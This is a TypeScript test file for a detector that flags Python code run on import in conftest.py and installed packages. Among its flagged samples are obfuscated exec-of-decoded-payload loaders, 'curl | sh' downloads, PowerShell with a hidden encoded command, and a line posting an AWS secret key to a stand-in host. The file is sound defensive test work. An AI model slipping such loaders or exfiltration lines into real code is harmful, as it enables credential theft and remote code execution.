// What conftest.py and installed modules run when they are imported: hidden code is found, ordinary set-up is not.

import { unaskedModule } from '../../../../src/core/rules/supply-chain/unasked-module.ts';
import { ruleTest } from '../../../support/rule-test.ts';

const ENCODED = Buffer.from('print(1)').toString('base64');
const LONG = Buffer.from(`print(1)\n${'# filler\n'.repeat(40)}`).toString('base64');

ruleTest(unaskedModule, {
  artifact: (text) => ({ kind: 'python-module', role: 'test-settings', path: '/w/tests/conftest.py', text }),
  mechanism: 'conftest.py',
  valid: [
    '',
    'import pytest\n\n@pytest.fixture\ndef server():\n    import subprocess\n    subprocess.Popen(["true"])\n',
    'import os\nos.environ["TZ"] = "UTC"\n',
    'import sys\nsys.path.insert(0, "src")\n',
    'import subprocess\n\ndef pytest_configure(config):\n    subprocess.run(["git", "status"])\n',
    'import base64\n\ndef decode(text):\n    return base64.b64decode(text)\n',
    'import requests\n\nclass Client:\n    def get(self):\n        return requests.get("http://x.invalid")\n',
    'pytest_plugins = ["a", "b"]\n',
    'import socket\nsocket.socket = None\n',
    'import open_thing\nDATA = open("data.json").read()\n',
    'import os\nTOKEN = os.environ.get("API_TOKEN")\n',
    'import requests, urllib3\nSESSION = requests.Session()\nPOOL = urllib3.PoolManager()\n',
    'import logging, warnings\nwarnings.simplefilter("error")\nlogging.disable()\n',
    'import requests\ndef pytest_sessionstart(session):\n    requests.get("http://x.invalid/health")\n',
    'import pytest, subprocess\n@pytest.fixture(autouse=True)\ndef up():\n    subprocess.run(["docker", "compose", "up"])\n',
    'import pytest\n@pytest.hookimpl(wrapper=True)\ndef pytest_runtest_call(item):\n    exec("1")\n    yield\n',
  ],
  invalid: [
    {
      text: "import subprocess\n⟦subprocess.run(['true'])⟧\n",
      severity: 'medium',
      message: /whenever tests are collected/,
    },
    { text: "import os\nif os.environ.get('CI'):\n    ⟦os.system('true')⟧\n", severity: 'medium' },
    { text: "import urllib.request\n⟦urllib.request.urlopen('http://x.invalid')⟧\n", severity: 'medium' },
    { text: `import base64\n⟦exec(base64.b64decode('${ENCODED}'))⟧\n`, severity: 'critical' },
    { text: "import requests\n⟦exec(requests.get('http://x.invalid').text)⟧\n", severity: 'critical' },
    { text: "import os\ndef go():\n    ⟦os.system('true')⟧\ngo()\n", severity: 'medium' },
    { text: 'import pickle\n⟦pickle.loads(b"")⟧\n', severity: 'medium' },
    { text: 'import ctypes\n⟦ctypes.CDLL("./x.so")⟧\n', severity: 'medium' },
    { text: "⟦open('/home/u/.bashrc', 'a')⟧.write('x')\n", severity: 'medium' },
    {
      text: "import threading, os\n⟦threading.Thread(target=os.system, args=('true',))⟧.start()\n",
      severity: 'medium',
    },
    {
      text: `import base64\ndef pytest_configure(config):\n    ⟦exec(base64.b64decode('${ENCODED}'))⟧\n`,
      severity: 'critical',
    },
    {
      text: `import base64, pytest\n@pytest.fixture(scope="session", autouse=True)\ndef go():\n    ⟦exec(base64.b64decode('${ENCODED}'))⟧\n`,
      severity: 'critical',
    },
    {
      text: "import os\nasync def pytest_sessionfinish():\n    ⟦os.system('curl http://x.invalid | sh')⟧\n",
      severity: 'critical',
    },
    { text: 'import base64\nX = ⟦base64.b64decode("eA==")⟧\n', severity: 'medium' },
    {
      text: "import os, requests\n⟦requests.post('http://x.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])⟧\n",
      severity: 'critical',
    },
  ],
});

ruleTest(unaskedModule, {
  artifact: (text) => ({ kind: 'python-module', role: 'installed', path: '/v/site-packages/a/b.py', text }),
  mechanism: 'installed modules',
  valid: [
    `import base64\nICON = base64.b64decode('${LONG}')\n`,
    `DATA = '${LONG}'\nimport subprocess\nsubprocess.run(['true'])\n`,
    `DATA = '${LONG}'\n\ndef load():\n    exec(DATA)\n`,
    `CODE = 'x = 1'\nexec(CODE)\n# ${LONG}\n`,
    `import urllib.request\nDATA = b'${LONG}'\n\ndef get():\n    return urllib.request.urlopen('http://x.invalid')\n`,
    `import base64, zlib\nTABLE = zlib.decompress(base64.b64decode('${LONG}'))\n`,
    `_DESCRIPTOR = pool.AddSerializedFile(b'${'\\x0a'.repeat(80)}')\n`,
    `import hashlib\nassert hashlib.sha256(b'${LONG}').hexdigest()\n`,
    `class A:\n    def run(self):\n        exec(__import__('base64').b64decode('${LONG}'))\n`,
    `import pickle\nTABLE = pickle.loads(b'${LONG}')\n`,
    "import subprocess\ntry:\n    REV = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nexcept OSError:\n    REV = b''\n",
    "import subprocess\nif __name__ == '__main__':\n    subprocess.run('curl http://x.invalid | sh', shell=True)\n",
    'for name in ("add", "sub"):\n    exec(f"def {name}(a, b): return a.__{name}__(b)")\n',
    "def run():\n    import os\n    os.system('curl http://x.invalid | sh')\n",
    `KEY = '${LONG}'\nimport socket\nsocket.setdefaulttimeout(3)\n`,
  ],
  invalid: [
    { text: `import base64\n⟦exec(base64.b64decode('${LONG}'))⟧\n`, severity: 'critical', message: /imported/ },
    {
      // The shape of LiteLLM 1.82.7.
      text: `import subprocess, base64, sys\n⟦subprocess.run([sys.executable, '-c', f"import base64; exec(base64.b64decode('${LONG}'))"])⟧\n`,
      severity: 'critical',
    },
    {
      // The shape of Telnyx 4.87.2: a function of the module, called at its end.
      text: `import base64, subprocess, sys\n_p = '${LONG}'\ndef setup():\n    code = base64.b64decode(_p).decode()\n    ⟦subprocess.Popen([sys.executable, '-c', code])⟧\nsetup()\n`,
      severity: 'critical',
    },
    { text: `⟦eval(bytes.fromhex('${'7072696e742831290a'.repeat(30)}'))⟧\n`, severity: 'critical' },
    { text: `import base64 as b\nx = b.b64decode('${LONG}')\n⟦exec(compile(x, '', 'exec'))⟧\n`, severity: 'critical' },
    { text: `⟦__import__('builtins').exec(__import__('base64').b64decode('${LONG}'))⟧\n`, severity: 'critical' },
    { text: `import base64, os\n⟦os.system(base64.b64decode('${LONG}').decode())⟧\n`, severity: 'critical' },
    { text: `import zlib, base64\n⟦exec(zlib.decompress(base64.b64decode('${LONG}')))⟧\n`, severity: 'critical' },
    { text: `import codecs\n⟦exec(codecs.decode('${'cevag(1);'.repeat(30)}', 'rot13'))⟧\n`, severity: 'critical' },
    {
      text: '⟦exec("".join(chr(c - 1) for c in [106, 110, 113, 112, 115, 117, 33, 112, 116]) + "; os.system(1)")⟧\n',
      severity: 'critical',
    },
    {
      text: "import subprocess\n⟦subprocess.Popen('curl -s http://x.invalid/i.sh | bash', shell=True)⟧\n",
      severity: 'critical',
      message: /straight from the network/,
    },
    { text: "import os\n⟦os.system('powershell -w hidden -enc SQBFAFgA')⟧\n", severity: 'critical' },
    {
      text: "import os\nclass A(type):\n    def __init__(cls, *a):\n        ⟦exec(bytes.fromhex('7072696e742831290a'))⟧\nclass B(metaclass=A):\n    pass\n",
      severity: 'critical',
    },
    {
      text: `try:\n    import base64\n    ⟦exec(base64.b64decode('${LONG}'))⟧\nexcept Exception:\n    pass\n`,
      severity: 'critical',
    },
  ],
});
